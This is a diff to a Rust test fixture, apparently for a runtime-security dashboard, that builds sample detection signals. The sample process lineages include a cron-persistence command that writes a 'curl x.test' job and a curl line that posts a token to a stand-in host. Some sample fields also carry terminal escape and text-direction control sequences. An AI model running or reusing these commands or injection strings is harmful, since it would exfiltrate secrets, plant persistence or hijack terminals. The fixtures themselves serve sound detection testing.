@@ -6,8 +6,10 @@ use std::sync::Arc;
 use super::view::{FileProblem, FleetView, Severity, SurveyProgress, Workload, short_names, versions_of};
 use crate::learning::{IdentityKey, Observed, Survey};
 use crate::model::{
-    ArenaBuilder, Facet, FileId, Header, NodeFlags, Recording, RecordingKind, Tag, UnixNanos,
+    self, Access, ArenaBuilder, Deed, Event, Facet, FileId, Header, Link, NodeFlags, Recording,
+    RecordingKind, Signal, SignalKind, Tag, UnixNanos,
 };
+use crate::signals::{Placement, Signals, Unplaced};
 
 /// The time of day in tests that look at the sample: 2026-11-24T03:02:18Z.
 pub(crate) const NOW: u64 = 1_795_489_338_120_229_853;
@@ -101,8 +103,171 @@ pub(crate) fn fleet() -> FleetView {
             ..SurveyProgress::default()
         },
         problems: Arc::new(problems),
-        signals: Arc::default(),
+        signals: Arc::new(signals()),
     }
+}
+
+/// What a signal of the sample is about.
+struct Raised {
+    id: &'static str,
+    rule: &'static str,
+    title: &'static str,
+    severity: Option<model::Severity>,
+    workload: Option<&'static str>,
+    version: &'static str,
+    instance: &'static str,
+    minutes_ago: u64,
+    count: u64,
+    /// Processes from the root, each as `path|argument|…`.
+    lineage: &'static [&'static str],
+    /// Facet, operation, name.
+    deed: (Option<Facet>, &'static str, &'static str),
+}
+
+const API: &str = "registry.lab/shop/api";
+const CRON: (Option<Facet>, &str, &str) = (Some(Facet::File), "open", "/etc/cron.d/refresh");
+const SHELL: &[&str] = &[
+    "/usr/bin/init",
+    "/usr/bin/gunicorn",
+    "/usr/bin/dash|-c|echo \"* * * * * curl x.test\" > /etc/cron.d/refresh",
+];
+
+const RAISED: &[Raised] = &[
+    Raised {
+        id: "AwAAAZ-cron",
+        rule: "cron_at_job_creation",
+        title: "Cron job was added",
+        severity: Some(model::Severity::High),
+        workload: Some(API),
+        version: "v2.1.0",
+        instance: "shop-v2.1.0-4",
+        minutes_ago: 50,
+        count: 1,
+        lineage: SHELL,
+        deed: CRON,
+    },
+    Raised {
+        id: "AwAAAZ-curl",
+        rule: "net_util_in_container",
+        title: "Network utility was run",
+        severity: Some(model::Severity::Medium),
+        workload: Some(API),
+        version: "v2.1.0",
+        instance: "shop-v2.1.0-4",
+        minutes_ago: 49,
+        count: 3,
+        lineage: &[
+            "/usr/bin/init",
+            "/usr/bin/gunicorn",
+            "/usr/bin/dash",
+            "/usr/bin/curl|-d|token=geheim|https://x.test",
+        ],
+        deed: (Some(Facet::Process), "exec", "/usr/bin/curl"),
+    },
+    Raised {
+        id: "evil\u{1b}[2J\u{202e}id",
+        rule: "rule\u{1b}]0;x\u{7}",
+        title: "title\u{1b}[31m",
+        severity: None,
+        workload: Some("evil\u{1b}[31m\u{202e}name"),
+        version: "1\u{7}",
+        instance: "edge-1\u{7}-0",
+        minutes_ago: 700 * 60,
+        count: 2,
+        lineage: &["/bin/\u{1b}[2J\u{202e}sh"],
+        deed: (Some(Facet::Dns), "dns", "x\u{1b}[2J.test"),
+    },
+    Raised {
+        id: "AwAAAZ-host",
+        rule: "kernel_module_load",
+        title: "Kernel module was loaded",
+        severity: Some(model::Severity::Critical),
+        workload: None,
+        version: "",
+        instance: "",
+        minutes_ago: 200,
+        count: 1,
+        lineage: &["/usr/bin/kmod"],
+        deed: (None, "load_module", "nf_tables"),
+    },
+];
+
+/// How often the probe of the sample raised its rule, once an hour in one of five instances.
+const PROBES: u64 = 40;
+
+/// The signals of the sample: an incident, what a probe raises every hour, one that would command a terminal, one
+/// that belongs to no workload.
+fn signals() -> Signals {
+    let mut all: Vec<(Signal, Placement)> = RAISED.iter().map(signal).collect();
+    for hour in 0..PROBES {
+        let probe = Raised {
+            id: "",
+            rule: "shell_in_container",
+            title: "Shell was run",
+            severity: Some(model::Severity::Low),
+            workload: Some(API),
+            version: "v2.1.0",
+            instance: "",
+            minutes_ago: 60 * hour + 7,
+            count: 12,
+            lineage: &["/usr/bin/init", "/usr/bin/dash|-c|df -h"],
+            deed: (Some(Facet::Process), "exec", "/usr/bin/dash"),
+        };
+        let (mut signal, mut placement) = signal(&probe);
+        signal.id = format!("AwAAAZ-probe-{hour:02}");
+        placement.instance = Some(format!("shop-v2.1.0-{}", hour % 5));
+        all.push((signal, placement));
+    }
+    Signals::of(all)
+}
+
+fn signal(raised: &Raised) -> (Signal, Placement) {
+    let time = Some(UnixNanos(NOW - raised.minutes_ago * 60 * 1_000_000_000));
+    let known = |text: &str| (!text.is_empty()).then(|| text.to_owned());
+    let link = |line: &&str| {
+        let (path, args) = line.split_once('|').unwrap_or((line, ""));
+        Link {
+            executable: path.to_owned(),
+            args: Some(args.split('|').filter(|arg| !arg.is_empty()).map(str::to_owned).collect()),
+            ..Link::default()
+        }
+    };
+    let (facet, operation, name) = raised.deed;
+    let event = Event {
+        time,
+        rule: raised.rule.to_owned(),
+        lineage: raised.lineage.iter().map(link).collect(),
+        deed: Deed {
+            facet,
+            operation: operation.to_owned(),
+            name: name.to_owned(),
+            access: if facet == Some(Facet::File) { Access::Write } else { Access::None },
+            ..Deed::default()
+        },
+        ..Event::default()
+    };
+    let signal = Signal {
+        id: raised.id.to_owned(),
+        kind: SignalKind::Signal,
+        rule: raised.rule.to_owned(),
+        title: raised.title.to_owned(),
+        severity: raised.severity,
+        time,
+        count: raised.count,
+        events: vec![event],
+        tags: [Tag::parse("source:runtime-security-agent")].into_iter().collect(),
+        triage: "open".to_owned(),
+        ..Signal::default()
+    };
+    let placement = Placement {
+        workload: raised.workload.map(str::to_owned),
+        version: known(raised.version),
+        instance: known(raised.instance),
+        host: known(if raised.workload.is_some() { "host-1" } else { "host-9" }),
+        unplaced: raised.workload.is_none().then_some(Unplaced::OfTheHost),
+        by: "by its tag image_name",
+    };
+    (signal, placement)
 }
 
 fn problems() -> Vec<FileProblem> {
